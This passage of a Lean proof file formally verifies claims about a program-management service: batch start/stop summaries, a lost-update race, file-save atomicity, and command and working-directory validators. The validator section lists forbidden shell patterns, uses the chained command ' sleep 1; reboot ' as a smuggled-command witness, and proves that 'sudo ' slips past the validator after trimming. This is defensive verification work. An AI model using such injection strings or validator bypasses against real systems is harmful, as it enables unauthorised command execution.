      (ProgramService.batchStopLoop env ids results s e w).1.2.1 =
          s + (ProgramService.eachInOrder (ProgramService.stopOne env) ids w).1.countP
            (fun r => r.isNone) ∧
        (ProgramService.batchStopLoop env ids results s e w).1.2.2 =
          e + (ProgramService.eachInOrder (ProgramService.stopOne env) ids w).1.countP
            (fun r => r.isSome) ∧
        (ProgramService.batchStopLoop env ids results s e w).2 =
          (ProgramService.eachInOrder (ProgramService.stopOne env) ids w).2 := by
  induction ids with
  | nil => intro results s e w; exact ⟨rfl, rfl, rfl⟩
  | cons id rest ih =>
    intro results s e w
    simp only [ProgramService.batchStopLoop, ProgramService.eachInOrder,
      ProgramService.stopOne]
    split
    · next err w1 hg =>
      obtain ⟨h1, h2, h3⟩ := ih (resultSet results id (.error err)) s (e + 1) w1
      simp only [h1, h2, h3]
      simp only [List.countP_cons, Option.isNone_some, Option.isSome_some, Option.isNone_none,
        Option.isSome_none, Bool.false_eq_true, ↓reduceIte, and_true]
      omega
    · next program w1 hg =>
      split
      · next err q w2 hs =>
        obtain ⟨h1, h2, h3⟩ := ih (resultSet results id (.error err)) s (e + 1) w2
        rw [hs]
        simp only [h1, h2, h3]
        simp only [List.countP_cons, Option.isNone_some, Option.isSome_some, Option.isNone_none,
          Option.isSome_none, Bool.false_eq_true, ↓reduceIte, and_true]
        omega
      · next q w2 hs =>
        obtain ⟨h1, h2, h3⟩ := ih (resultSet results id (.status "stopped")) (s + 1) e w2
        rw [hs]
        simp only [h1, h2, h3]
        simp only [List.countP_cons, Option.isNone_some, Option.isSome_some, Option.isNone_none,
          Option.isSome_none, Bool.false_eq_true, ↓reduceIte, and_true]
        omega

theorem countP_none_add_some (l : List (Option String)) :
    l.countP (fun r => r.isNone) + l.countP (fun r => r.isSome) = l.length := by
  induction l with
  | nil => rfl
  | cons x xs ih =>
    cases x <;> simp [List.countP_cons] <;> omega

/-- C18. For every list of ids, BatchStartPrograms and BatchStopPrograms return no error;
they perform the per-id operation (fetch the record, then start or stop it) on every id
in order, an error on one id never keeping the following ids from being attempted; and
the entry `summary` of the result holds total = len(ids), success = the number of ids
(with multiplicity) whose own operation returned no error, errors = the number of those
whose operation returned an error, so that success + errors = total. -/
theorem C18_batch_summary (env : Env) (ids : List String) (w : World) :
    ((ProgramService.BatchStartPrograms env ids w).1.2 = none ∧
        (ProgramService.BatchStartPrograms env ids w).2 =
          (ProgramService.eachInOrder (ProgramService.startOne env) ids w).2 ∧
        (ProgramService.eachInOrder (ProgramService.startOne env) ids w).1.length =
          ids.length ∧
        ∃ s e : Nat,
          resultGet (ProgramService.BatchStartPrograms env ids w).1.1 "summary" =
              some (.summary ids.length s e) ∧
            s = (ProgramService.eachInOrder (ProgramService.startOne env) ids w).1.countP
              (fun r => r.isNone) ∧
            e = (ProgramService.eachInOrder (ProgramService.startOne env) ids w).1.countP
              (fun r => r.isSome) ∧
            s + e = ids.length) ∧
      ((ProgramService.BatchStopPrograms env ids w).1.2 = none ∧
        (ProgramService.BatchStopPrograms env ids w).2 =
          (ProgramService.eachInOrder (ProgramService.stopOne env) ids w).2 ∧
        (ProgramService.eachInOrder (ProgramService.stopOne env) ids w).1.length =
          ids.length ∧
        ∃ s e : Nat,
          resultGet (ProgramService.BatchStopPrograms env ids w).1.1 "summary" =
              some (.summary ids.length s e) ∧
            s = (ProgramService.eachInOrder (ProgramService.stopOne env) ids w).1.countP
              (fun r => r.isNone) ∧
            e = (ProgramService.eachInOrder (ProgramService.stopOne env) ids w).1.countP
              (fun r => r.isSome) ∧
            s + e = ids.length) := by
  constructor
  · obtain ⟨h1, h2, h3⟩ := batchStartLoop_counts env ids [] 0 0 w
    have hlen := eachInOrder_length (ProgramService.startOne env) ids w
    have hsum := countP_none_add_some
      (ProgramService.eachInOrder (ProgramService.startOne env) ids w).1
    simp only [ProgramService.BatchStartPrograms]
    refine ⟨trivial, h3, hlen, _, _, resultGet_resultSet_self _ _ _, ?_, ?_, ?_⟩
    · rw [h1]; omega
    · rw [h2]; omega
    · rw [h1, h2]; omega
  · obtain ⟨h1, h2, h3⟩ := batchStopLoop_counts env ids [] 0 0 w
    have hlen := eachInOrder_length (ProgramService.stopOne env) ids w
    have hsum := countP_none_add_some
      (ProgramService.eachInOrder (ProgramService.stopOne env) ids w).1
    simp only [ProgramService.BatchStopPrograms]
    refine ⟨trivial, h3, hlen, _, _, resultGet_resultSet_self _ _ _, ?_, ?_, ?_⟩
    · rw [h1]; omega
    · rw [h2]; omega
    · rw [h1, h2]; omega

/-- The spec scenario for C18: A stopped, B already running, C unknown gives
total 3, success 1, errors 2, with the per-id entries of the scenario. -/
theorem batch_start_scenario :
    (ProgramService.BatchStartPrograms Env.calm ["A", "B", "C"]
        (World.holding
          [sampleProgram "A" "x" "sleep 1",
           { sampleProgram "B" "y" "sleep 2" with Status := "running", PID := 777 }])).1.1 =
      [("A", .status "started"), ("B", .error "program is already running"),
       ("C", .error "program not found: C"), ("summary", .summary 3 1 2)] := by
  decide

/-- C19 (the code breaks the claim). For the list of ids `["summary"]`, an id that no
program has, BatchStartPrograms records `{error: program not found: summary}` under the
key `summary` and then writes the summary under the same key: the result holds no entry
for the id, only the summary. -/
theorem C19_summary_overwrites_id_entry :
    (ProgramService.startOne Env.calm "summary" World.initial).1 =
        some "program not found: summary" ∧
      (ProgramService.batchStartLoop Env.calm ["summary"] [] 0 0 World.initial).1.1 =
        [("summary", .error "program not found: summary")] ∧
      (ProgramService.BatchStartPrograms Env.calm ["summary"] World.initial).1.1 =
        [("summary", .summary 1 0 1)] := by
  decide

/-! ## Concurrent AddProgram -/

/-- The two parts of AddProgram, run one after the other with nothing in between, are
AddProgram. -/
theorem AddProgram_eq_parts (env : Env) (program : Program) (w : World) :
    ProgramService.AddProgram env program w =
      match ProgramService.addLoadPart env program w with
      | (.error e, w1) => (some e, w1)
      | (.ok pm, w1) => ProgramService.addSavePart env program pm w1 := by
  simp only [ProgramService.AddProgram, ProgramService.addLoadPart,
    ProgramService.addSavePart]
  repeat' split
  all_goals simp_all

/-- C17 (the code breaks the claim). Two AddProgram calls with distinct ids and distinct
names, from the empty catalog, scheduled so that both load before either saves: both
return success, and the persisted catalog holds only the program of the call that saved
last; the other update is lost. Run one after the other, the same two calls leave both
programs in the catalog. -/
theorem C17_lost_update :
    (ProgramService.addInterleaved Env.calm (sampleProgram "a" "x" "sleep 1")
        (sampleProgram "b" "y" "sleep 2") World.initial).1 = (none, none) ∧
      ((ProgramService.addInterleaved Env.calm (sampleProgram "a" "x" "sleep 1")
        (sampleProgram "b" "y" "sleep 2") World.initial).2.catalog.Programs.map
          fun e => (e.1, e.2.Name)) = [("b", "y")] ∧
      ((callAll Env.calm [.add (sampleProgram "a" "x" "sleep 1"),
          .add (sampleProgram "b" "y" "sleep 2")] World.initial).2.catalog.Programs.map
          fun e => (e.1, e.2.Name)) = [("a", "x"), ("b", "y")] := by
  decide

/-! ## The command validator -/

theorem matchesPrefix_never (s : List Char) : Re.matchesPrefix Re.never s = false := by
  induction s with
  | nil => rfl
  | cons c cs ih => simp [Re.matchesPrefix, Re.nullable, Re.after, ih]

theorem matchesPrefix_cat_never (w : Re) (s : List Char) :
    Re.matchesPrefix (Re.cat Re.never w) s = false := by
  induction s with
  | nil => rfl
  | cons c cs ih => simp [Re.matchesPrefix, Re.nullable, Re.after, ih]

theorem matchesPrefix_alt (s : List Char) :
    ∀ a b : Re, Re.matchesPrefix (Re.alt a b) s =
      (Re.matchesPrefix a s || Re.matchesPrefix b s) := by
  induction s with
  | nil => intro a b; rfl
  | cons c cs ih =>
    intro a b
    simp only [Re.matchesPrefix, Re.nullable, Re.after, ih]
    cases Re.nullable a <;> cases Re.nullable b <;>
      cases Re.matchesPrefix (Re.after a c) cs <;> rfl

theorem matchesPrefix_cat_eps (w : Re) (s : List Char) :
    Re.matchesPrefix (Re.cat Re.eps w) s = Re.matchesPrefix w s := by
  cases s with
  | nil => simp [Re.matchesPrefix, Re.nullable]
  | cons c cs =>
    simp [Re.matchesPrefix, Re.nullable, Re.after, matchesPrefix_alt,
      matchesPrefix_cat_never]

theorem matchesPrefix_word (l : List Char) :
    ∀ s : List Char, Re.matchesPrefix (Re.word l) s = l.isPrefixOf s := by
  induction l with
  | nil =>
    intro s
    cases s <;> simp [Re.word, Re.matchesPrefix, Re.nullable]
  | cons a l1 ih =>
    intro s
    cases s with
    | nil => simp [Re.word, Re.matchesPrefix, Re.nullable]
    | cons c cs =>
      by_cases h : a = c
      · subst h
        simp [Re.word, Re.matchesPrefix, Re.nullable, Re.after, matchesPrefix_cat_eps, ih]
      · simp [Re.word, Re.matchesPrefix, Re.nullable, Re.after, matchesPrefix_cat_never, h,
          List.isPrefixOf]

theorem search_word (l s : List Char) : Re.search (Re.word l) s = containsChars s l := by
  induction s with
  | nil => cases l <;> simp [Re.search, Re.word, Re.nullable, containsChars]
  | cons c cs ih =>
    simp only [Re.search, containsChars, ih, matchesPrefix_word]

theorem containsChars_of_infix (a l b : List Char) :
    containsChars (a ++ (l ++ b)) l = true := by
  induction a with
  | nil => exact containsChars_append_self l b
  | cons x xs ih =>
    show containsChars (x :: (xs ++ (l ++ b))) l = true
    unfold containsChars
    simp [ih]

theorem infix_of_containsChars (s l : List Char) (h : containsChars s l = true) :
    ∃ a b : List Char, s = a ++ (l ++ b) := by
  induction s with
  | nil =>
    unfold containsChars at h
    have : l = [] := by simpa using h
    exact ⟨[], [], by simp [this]⟩
  | cons c cs ih =>
    unfold containsChars at h
    rcases (Bool.or_eq_true_iff).1 h with h1 | h1
    · obtain ⟨t, ht⟩ := List.isPrefixOf_iff_prefix.1 h1
      exact ⟨[], t, by simp [ht]⟩
    · obtain ⟨a, b, hab⟩ := ih h1
      exact ⟨c :: a, b, by simp [hab]⟩

theorem containsChars_trim (s l : List Char) (hne : l ≠ [])
    (hns : ∀ c ∈ l, isSpace c = false) (h : containsChars s l = true) :
    containsChars (trimSpaceChars s) l = true := by
  obtain ⟨a, b, rfl⟩ := infix_of_containsChars s l h
  unfold trimSpaceChars
  obtain ⟨a1, ha1⟩ := dropWhile_append_keep isSpace a (l ++ b) (by
    intro x xs hx
    cases l with
    | nil => exact absurd rfl hne
    | cons y ys =>
      simp only [List.cons_append, List.cons.injEq] at hx
      rw [← hx.1]
      exact hns y (List.mem_cons_self _ _))
  rw [ha1]
  have hrev : (a1 ++ (l ++ b)).reverse = b.reverse ++ (l.reverse ++ a1.reverse) := by simp
  rw [hrev]
  obtain ⟨b1, hb1⟩ := dropWhile_append_keep isSpace b.reverse (l.reverse ++ a1.reverse) (by
    intro x xs hx
    have hmem : x ∈ l.reverse := by
      cases hl : l.reverse with
      | nil =>
        have : l = [] := by simpa using hl
        exact absurd this hne
      | cons y ys =>
        rw [hl] at hx
        simp only [List.cons_append, List.cons.injEq] at hx
        rw [← hx.1]
        exact List.mem_cons_self _ _
    exact hns x (List.mem_reverse.1 hmem))
  rw [hb1]
  have : (b1 ++ (l.reverse ++ a1.reverse)).reverse = a1 ++ (l ++ b1.reverse) := by simp
  rw [this]
  exact containsChars_of_infix a1 l b1.reverse

theorem MatchString_word (pattern : String) (l : List Char) (s : String)
    (h : Re.compile pattern = Re.word l) :
    MatchString pattern s = containsChars s.data l := by
  unfold MatchString
  rw [h, search_word]

theorem MatchString_trim_of_Contains (pattern lit command : String)
    (h : Re.compile pattern = Re.word lit.data) (hne : lit.data ≠ [])
    (hns : ∀ c ∈ lit.data, isSpace c = false) (hc : Contains command lit = true) :
    MatchString pattern (TrimSpace command) = true := by
  rw [MatchString_word pattern lit.data _ h]
  exact containsChars_trim command.data lit.data hne hns hc

theorem ValidateCommand_of_find (fs : ExecFS) (command q : String)
    (hfind : forbiddenPatterns.find?
      (fun pattern => MatchString pattern (TrimSpace command)) = some q) :
    CommandValidator.ValidateCommand fs command =
      some (if (TrimSpace command).utf8ByteSize > 1000
        then "command too long (max 1000 characters)"
        else "command contains forbidden pattern: " ++ q) := by
  have hne : command ≠ "" := by
    intro h
    subst h
    have hnone : forbiddenPatterns.find?
        (fun pattern => MatchString pattern (TrimSpace "")) = none := by decide
    rw [hnone] at hfind
    exact Option.noConfusion hfind
  simp only [CommandValidator.ValidateCommand, hne, ↓reduceIte, hfind]
  split <;> rfl

set_option maxRecDepth 100000 in
/-- C12, counterexample: the command "sudo " contains a match of the forbidden pattern
for sudo, yet ValidateCommand accepts it when sudo is on PATH, because the patterns are
tried on the trimmed command; and a command of 1001 semicolons is refused for its length,
with an error that names no pattern. -/
theorem C12_counterexample :
    "sudo\\s+" ∈ forbiddenPatterns ∧
      MatchString "sudo\\s+" "sudo " = true ∧
      CommandValidator.ValidateCommand ⟨fun _ => true, fun _ => true⟩ "sudo " = none ∧
      ";" ∈ forbiddenPatterns ∧
      MatchString ";" (String.mk (List.replicate 1001 ';')) = true ∧
      CommandValidator.ValidateCommand ⟨fun _ => true, fun _ => true⟩
          (String.mk (List.replicate 1001 ';')) =
        some "command too long (max 1000 characters)" := by
  refine ⟨by decide, by decide, by decide, by decide, by decide, by decide⟩

/-- C12, amended: when the trimmed command contains a match of a forbidden pattern,
ValidateCommand returns the same error whatever the filesystem and PATH hold: the length
error when the trimmed command is longer than 1000 bytes, otherwise the error naming the
first pattern of the list that matches the trimmed command. And no command containing
`;`, `&&`, `||` or `$(` is accepted. -/
theorem C12_forbidden_after_trim (command : String) :
    ((∃ pattern ∈ forbiddenPatterns, MatchString pattern (TrimSpace command) = true) →
      ∃ q ∈ forbiddenPatterns, MatchString q (TrimSpace command) = true ∧
        forbiddenPatterns.find?
          (fun pattern => MatchString pattern (TrimSpace command)) = some q ∧
        ∀ fs : ExecFS, CommandValidator.ValidateCommand fs command =
          some (if (TrimSpace command).utf8ByteSize > 1000
            then "command too long (max 1000 characters)"
            else "command contains forbidden pattern: " ++ q)) ∧
    ((Contains command ";" = true ∨ Contains command "&&" = true ∨
        Contains command "||" = true ∨ Contains command "$(" = true) →
      ∀ fs : ExecFS, CommandValidator.ValidateCommand fs command ≠ none) := by
  have part1 : (∃ pattern ∈ forbiddenPatterns,
      MatchString pattern (TrimSpace command) = true) →
      ∃ q ∈ forbiddenPatterns, MatchString q (TrimSpace command) = true ∧
        forbiddenPatterns.find?
          (fun pattern => MatchString pattern (TrimSpace command)) = some q ∧
        ∀ fs : ExecFS, CommandValidator.ValidateCommand fs command =
          some (if (TrimSpace command).utf8ByteSize > 1000
            then "command too long (max 1000 characters)"
            else "command contains forbidden pattern: " ++ q) := by
    intro hex
    have hsome : (forbiddenPatterns.find?
        (fun pattern => MatchString pattern (TrimSpace command))).isSome = true := by
      rw [List.find?_isSome]
      obtain ⟨pattern, hmem, hm⟩ := hex
      exact ⟨pattern, hmem, hm⟩
    obtain ⟨q, hq⟩ := Option.isSome_iff_exists.1 hsome
    exact ⟨q, List.mem_of_find?_eq_some hq,
      List.find?_some (p := fun pattern => MatchString pattern (TrimSpace command)) hq, hq,
      fun fs => ValidateCommand_of_find fs command q hq⟩
  refine ⟨part1, ?_⟩
  intro hc fs
  have hex : ∃ pattern ∈ forbiddenPatterns,
      MatchString pattern (TrimSpace command) = true := by
    rcases hc with h | h | h | h
    · exact ⟨";", by decide,
        MatchString_trim_of_Contains ";" ";" command (by decide) (by decide) (by decide) h⟩
    · exact ⟨"&&", by decide,
        MatchString_trim_of_Contains "&&" "&&" command (by decide) (by decide) (by decide) h⟩
    · exact ⟨"\\|\\|", by decide,
        MatchString_trim_of_Contains "\\|\\|" "||" command (by decide) (by decide)
          (by decide) h⟩
    · exact ⟨"\\$\\(", by decide,
        MatchString_trim_of_Contains "\\$\\(" "$(" command (by decide) (by decide)
          (by decide) h⟩
  obtain ⟨q, _, _, _, hv⟩ := part1 hex
  rw [hv fs]
  exact Option.some_ne_none _

/-- Witness for C12: a command chaining two commands with a semicolon, surrounded by
blanks. -/
theorem C12_forbidden_after_trim_witness :
    Contains " sleep 1; reboot " ";" = true ∧
      CommandValidator.ValidateCommand ⟨fun _ => true, fun _ => true⟩ " sleep 1; reboot " ≠
        none ∧
      ∃ q ∈ forbiddenPatterns, MatchString q (TrimSpace " sleep 1; reboot ") = true ∧
        forbiddenPatterns.find?
          (fun pattern => MatchString pattern (TrimSpace " sleep 1; reboot ")) = some q ∧
        ∀ fs : ExecFS, CommandValidator.ValidateCommand fs " sleep 1; reboot " =
          some (if (TrimSpace " sleep 1; reboot ").utf8ByteSize > 1000
            then "command too long (max 1000 characters)"
            else "command contains forbidden pattern: " ++ q) :=
  ⟨by decide,
    (C12_forbidden_after_trim " sleep 1; reboot ").2 (Or.inl (by decide)) _,
    (C12_forbidden_after_trim " sleep 1; reboot ").1 ⟨";", by decide, by decide⟩⟩

/-! ## The working directory validator -/

theorem slash_prefix_iff (l : List Char) :
    ['/'].isPrefixOf l = true ↔ l.head? = some '/' := by
  cases l with
  | nil => simp [List.isPrefixOf]
  | cons c cs =>
    simp only [List.isPrefixOf, List.head?_cons, Option.some.injEq, Bool.and_true,
      beq_iff_eq]
    exact eq_comm

theorem splitSlash_head (s : List Char) : ∀ e ∈ splitSlash s, e.head? ≠ some '/' := by
  induction s with
  | nil => intro e he; simp [splitSlash] at he; simp [he]
  | cons c cs ih =>
    intro e he
    unfold splitSlash at he
    split at he
    · rcases List.mem_cons.1 he with h | h
      · simp [h]
      · exact ih e h
    · split at he
      · simp at he
        simp [he]
        assumption
      · rename_i h t hsp
        rcases List.mem_cons.1 he with h1 | h1
        · rw [h1]
          simp
          assumption
        · exact ih e (by rw [hsp]; exact List.mem_cons_of_mem _ h1)

theorem cleanStep_head (rooted : Bool) (out : List (List Char)) (elem : List Char)
    (hout : ∀ e ∈ out, e ≠ [] ∧ e.head? ≠ some '/') (helem : elem.head? ≠ some '/') :
    ∀ e ∈ cleanStep rooted out elem, e ≠ [] ∧ e.head? ≠ some '/' := by
  intro e he
  unfold cleanStep at he
  split at he
  · exact hout e he
  · rename_i hskip
    have hne : elem ≠ [] := fun h => hskip (Or.inl h)
    have hnew : ∀ x ∈ elem :: out, x ≠ [] ∧ x.head? ≠ some '/' := by
      intro x hx
      rcases List.mem_cons.1 hx with h | h
      · rw [h]; exact ⟨hne, helem⟩
      · exact hout x h
    split at he
    · split at he
      · rename_i top rest
        split at he
        · exact hout e (List.mem_cons_of_mem _ he)
        · split at he
          · exact hout e he
          · exact hnew e he
      · split at he
        · exact hout e he
        · exact hnew e (by
            rcases List.mem_singleton.1 he with h
            rw [h]; exact List.mem_cons_self _ _)
    · exact hnew e he

theorem foldl_cleanStep_head (rooted : Bool) (elems : List (List Char)) :
    ∀ out : List (List Char), (∀ e ∈ out, e ≠ [] ∧ e.head? ≠ some '/') →
      (∀ e ∈ elems, e.head? ≠ some '/') →
      ∀ e ∈ elems.foldl (cleanStep rooted) out, e ≠ [] ∧ e.head? ≠ some '/' := by
  induction elems with
  | nil => intro out hout _; exact hout
  | cons x xs ih =>
    intro out hout helems
    exact ih (cleanStep rooted out x)
      (cleanStep_head rooted out x hout (helems x (List.mem_cons_self _ _)))
      (fun e he => helems e (List.mem_cons_of_mem _ he))

theorem joinSlash_head (l : List (List Char))
    (h : ∀ e ∈ l, e ≠ [] ∧ e.head? ≠ some '/') : (joinSlash l).head? ≠ some '/' := by
  cases l with
  | nil => simp [joinSlash]
  | cons e rest =>
    have he := h e (List.mem_cons_self _ _)
    cases e with
    | nil => exact absurd rfl he.1
    | cons c cs =>
      cases rest with
      | nil => simpa [joinSlash] using he.2
      | cons e2 rest2 => simpa [joinSlash] using he.2

theorem Clean_not_abs (path : String) (hne : path ≠ "") (habs : IsAbs path = false) :
    IsAbs (Clean path) = false := by
  simp only [Clean, hne, ↓reduceIte, habs, Bool.false_eq_true]
  split
  · decide
  · have hh := joinSlash_head
      ((splitSlash path.data).foldl (cleanStep false) []).reverse (by
        intro e he
        exact foldl_cleanStep_head false (splitSlash path.data) []
          (by intro x hx; cases hx) (splitSlash_head path.data) e (List.mem_reverse.1 he))
    unfold IsAbs
    cases hp : ['/'].isPrefixOf
        (joinSlash ((splitSlash path.data).foldl (cleanStep false) []).reverse) with
    | false => rfl
    | true => exact absurd ((slash_prefix_iff _).1 hp) hh

set_option maxRecDepth 100000 in
/-- C13, counterexample: the path made of 101 segments `/a/..` is 505 bytes and 505
characters long, cleans to `/`, and ValidateWorkingDir accepts it when `/` is a
directory: the length is measured after cleaning. -/
theorem C13_counterexample :
    (String.mk (List.replicate 101 "/a/..".data).flatten).utf8ByteSize = 505 ∧
      (String.mk (List.replicate 101 "/a/..".data).flatten).length = 505 ∧
      Clean (String.mk (List.replicate 101 "/a/..".data).flatten) = "/" ∧
      CommandValidator.ValidateWorkingDir
          ⟨fun _ path => if path = "/" then .dir else .notExist "no such file or directory",
            fun _ => some "permission denied"⟩
          (String.mk (List.replicate 101 "/a/..".data).flatten) = none := by
  refine ⟨by decide, by decide, by decide, by decide⟩

/-- C13, amended: ValidateWorkingDir accepts the empty string, rejects every non-empty
path that is not absolute, and rejects every path whose cleaned form is longer than 500
bytes, whatever the filesystem holds. -/
theorem C13_working_dir_guards (fs : DirFS) (workingDir : String) :
    CommandValidator.ValidateWorkingDir fs "" = none ∧
      (workingDir ≠ "" → IsAbs workingDir = false →
        CommandValidator.ValidateWorkingDir fs workingDir =
            some "working directory path too long" ∨
          CommandValidator.ValidateWorkingDir fs workingDir =
            some "working directory must be absolute path") ∧
      ((Clean workingDir).utf8ByteSize > 500 →
        CommandValidator.ValidateWorkingDir fs workingDir =
          some "working directory path too long") := by
  refine ⟨rfl, ?_, ?_⟩
  · intro hne habs
    have hc := Clean_not_abs workingDir hne habs
    simp only [CommandValidator.ValidateWorkingDir, hne, ↓reduceIte, hc]
    split
    · exact Or.inl rfl
    · exact Or.inr rfl
  · intro hlong
    have hne : workingDir ≠ "" := by
      intro h
      subst h
      revert hlong
      decide
    simp only [CommandValidator.ValidateWorkingDir, hne, ↓reduceIte, hlong]

set_option maxRecDepth 100000 in
/-- Witness for C13: a relative path, and an absolute path of 501 bytes that cleaning
leaves as it is, on a filesystem where every path is a directory. -/
theorem C13_working_dir_guards_witness :
    (CommandValidator.ValidateWorkingDir ⟨fun _ _ => .dir, fun _ => none⟩ "srv/app" =
          some "working directory path too long" ∨
        CommandValidator.ValidateWorkingDir ⟨fun _ _ => .dir, fun _ => none⟩ "srv/app" =
          some "working directory must be absolute path") ∧
      CommandValidator.ValidateWorkingDir ⟨fun _ _ => .dir, fun _ => none⟩
          (String.mk ('/' :: List.replicate 500 'a')) =
        some "working directory path too long" :=
  ⟨(C13_working_dir_guards ⟨fun _ _ => .dir, fun _ => none⟩ "srv/app").2.1
      (by decide) (by decide),
    (C13_working_dir_guards ⟨fun _ _ => .dir, fun _ => none⟩
      (String.mk ('/' :: List.replicate 500 'a'))).2.2 (by decide)⟩

/-! ## Saving over an explicit filesystem -/

theorem ne_append_tmp (filePath : String) : filePath ≠ filePath ++ ".tmp" := by
  intro h
  have hl := congrArg String.length h
  rw [String.length_append] at hl
  have h4 : ".tmp".length = 4 := by decide
  omega

theorem Disk_set_other (d : Disk) (path p : String) (c : Option Content) (h : p ≠ path) :
    (d.set path c).file p = d.file p := by
  simp [Disk.set, h]

theorem Disk_set_self (d : Disk) (path : String) (c : Option Content) :
    (d.set path c).file path = c := by
  simp [Disk.set]

/-- C15, counterexample: the rename fails and so does the removal of the temp file,
whose error SavePrograms drops: the temp file is still there after the call. -/
theorem C15_counterexample :
    (OnDisk.SavePrograms TimeCodec.tally
        { Faults.quiet with rename := fun _ _ => some "permission denied",
                            remove := fun _ => some "permission denied" }
        "data/programs.json" NewProgramManager.toRaw Disk.empty).1 =
      some "failed to rename temp file: permission denied" ∧
    ((OnDisk.SavePrograms TimeCodec.tally
        { Faults.quiet with rename := fun _ _ => some "permission denied",
                            remove := fun _ => some "permission denied" }
        "data/programs.json" NewProgramManager.toRaw Disk.empty).2.file
      "data/programs.json.tmp").isSome = true := by
  refine ⟨by decide, by decide⟩

/-- C15, amended: whenever SavePrograms returns an error, the catalog file holds what it
held before the call; and when the rename step fails, the temp file is gone afterwards
if its removal succeeds, and holds the new data if its removal fails. -/
theorem C15_save_failure_frame (codec : TimeCodec) (faults : Faults) (filePath : String)
    (pm : RawProgramManager) (d : Disk) :
    ((OnDisk.SavePrograms codec faults filePath pm d).1 ≠ none →
      (OnDisk.SavePrograms codec faults filePath pm d).2.file filePath = d.file filePath) ∧
    (∀ v, OnDisk.ensureDirectory faults filePath = none → encodeManager codec pm = .ok v →
      faults.writeFile (filePath ++ ".tmp") = none →
      faults.rename (filePath ++ ".tmp") filePath ≠ none →
      (OnDisk.SavePrograms codec faults filePath pm d).1 ≠ none ∧
      (faults.remove (filePath ++ ".tmp") = none →
        (OnDisk.SavePrograms codec faults filePath pm d).2.file (filePath ++ ".tmp") =
          none) ∧
      (faults.remove (filePath ++ ".tmp") ≠ none →
        (OnDisk.SavePrograms codec faults filePath pm d).2.file (filePath ++ ".tmp") =
          some (.json v))) := by
  have hne := ne_append_tmp filePath
  constructor
  · intro herr
    simp only [OnDisk.SavePrograms] at herr ⊢
    split
    · rfl
    · split
      · rfl
      · split
        · exact Disk_set_other _ _ _ _ hne
        · split
          · split
            · exact Disk_set_other _ _ _ _ hne
            · rw [Disk_set_other _ _ _ _ hne, Disk_set_other _ _ _ _ hne]
          · rename_i _ hd _ _ he _ hw _ hr
            simp [hd, he, hw, hr] at herr
  · intro v hdir henc hwrite hrename
    cases hr : faults.rename (filePath ++ ".tmp") filePath with
    | none => exact absurd hr hrename
    | some e =>
      simp only [OnDisk.SavePrograms, hdir, henc, hwrite, hr]
      refine ⟨by simp, ?_, ?_⟩
      · intro hrm
        rw [hrm]
        exact Disk_set_self _ _ _
      · intro hrm
        cases hm : faults.remove (filePath ++ ".tmp") with
        | none => exact absurd hm hrm
        | some e2 => exact Disk_set_self _ _ _

/-- Witness for C15: the rename fails on a filesystem that holds an older catalog file;
the catalog file is untouched and the temp file is gone. -/
theorem C15_save_failure_frame_witness :
    (OnDisk.SavePrograms TimeCodec.tally
          { Faults.quiet with rename := fun _ _ => some "permission denied" }
          "data/programs.json" NewProgramManager.toRaw
          (Disk.empty.set "data/programs.json" (some (.json .null)))).2.file
        "data/programs.json" =
      (Disk.empty.set "data/programs.json" (some (.json .null))).file "data/programs.json" ∧
    (OnDisk.SavePrograms TimeCodec.tally
          { Faults.quiet with rename := fun _ _ => some "permission denied" }
          "data/programs.json" NewProgramManager.toRaw
          (Disk.empty.set "data/programs.json" (some (.json .null)))).2.file
        ("data/programs.json" ++ ".tmp") = none :=
  ⟨(C15_save_failure_frame TimeCodec.tally
      { Faults.quiet with rename := fun _ _ => some "permission denied" }
      "data/programs.json" NewProgramManager.toRaw
      (Disk.empty.set "data/programs.json" (some (.json .null)))).1 (by decide),
    ((C15_save_failure_frame TimeCodec.tally
      { Faults.quiet with rename := fun _ _ => some "permission denied" }
      "data/programs.json" NewProgramManager.toRaw
      (Disk.empty.set "data/programs.json" (some (.json .null)))).2
      (.obj [("programs", .obj []), ("version", .str "1.0")])
      (by decide) rfl rfl (by decide)).2.1 rfl⟩

/-! ## Loading over an explicit filesystem -/

theorem decodePrograms_error (codec : TimeCodec) (v : Json)
    (cur : Option (List (String × Program))) (hn : v.isNull = false)
    (ho : v.isObject = false) : ∃ e, decodePrograms codec v cur = .error e := by
  cases v with
  | null => simp [Json.isNull] at hn
  | obj fields => simp [Json.isObject] at ho
  | bool b => exact ⟨_, rfl⟩
  | int n => exact ⟨_, rfl⟩
  | frac raw => exact ⟨_, rfl⟩
  | str s => exact ⟨_, rfl⟩
  | arr items => exact ⟨_, rfl⟩

theorem decodeManager_error (codec : TimeCodec) (v : Json) (hn : v.isNull = false)
    (ho : v.isObject = false) : ∃ e, decodeManager codec v = .error e := by
  cases v with
  | null => simp [Json.isNull] at hn
  | obj fields => simp [Json.isObject] at ho
  | bool b => exact ⟨_, rfl⟩
  | int n => exact ⟨_, rfl⟩
  | frac raw => exact ⟨_, rfl⟩
  | str s => exact ⟨_, rfl⟩
  | arr items => exact ⟨_, rfl⟩

theorem decodeManagerFields_error (codec : TimeCodec) (fields : List (String × Json))
    (h : ∃ kv ∈ fields, sameField kv.1 "programs" = true ∧ kv.2.isNull = false ∧
      kv.2.isObject = false) :
    ∀ pm : RawProgramManager, ∃ e, decodeManagerFields codec fields pm = .error e := by
  induction fields with
  | nil =>
    obtain ⟨kv, hmem, _⟩ := h
    cases hmem
  | cons x rest ih =>
    intro pm
    obtain ⟨key, v⟩ := x
    obtain ⟨kv, hmem, hk, hn, ho⟩ := h
    unfold decodeManagerFields
    rcases List.mem_cons.1 hmem with heq | hrest
    · subst heq
      simp only at hk hn ho
      obtain ⟨e, he⟩ := decodePrograms_error codec v pm.Programs hn ho
      simp only [hk, ↓reduceIte, he]
      exact ⟨_, rfl⟩
    · have ih1 := ih ⟨kv, hrest, hk, hn, ho⟩
      split
      · split
        · exact ⟨_, rfl⟩
        · exact ih1 _
      · split
        · split
          · exact ⟨_, rfl⟩
          · exact ih1 _
        · exact ih1 _

theorem decodeManagerFields_no_programs (codec : TimeCodec)
    (fields : List (String × Json))
    (h : ∀ kv ∈ fields, (sameField kv.1 "programs" = true → kv.2.isNull = true) ∧
      (sameField kv.1 "programs" = false → sameField kv.1 "version" = true →
        kv.2.isNull = true ∨ ∃ s, kv.2 = .str s)) :
    ∀ version : String, ∃ version2 : String,
      decodeManagerFields codec fields { Programs := none, Version := version } =
        .ok { Programs := none, Version := version2 } := by
  induction fields with
  | nil => intro version; exact ⟨version, rfl⟩
  | cons x rest ih =>
    intro version
    obtain ⟨key, v⟩ := x
    have hx := h (key, v) (List.mem_cons_self _ _)
